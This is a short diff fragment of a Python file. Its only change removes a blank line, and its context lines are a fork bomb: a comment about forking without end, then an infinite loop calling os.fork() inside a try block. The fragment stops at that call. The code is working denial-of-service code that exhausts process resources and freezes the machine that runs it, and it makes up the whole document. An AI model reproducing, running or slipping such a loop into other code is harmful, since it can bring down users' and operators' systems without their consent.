@@ -1,6 +1,5 @@
 # tries: fork without end
 import os
-
 while True:
     try:
         os.fork()
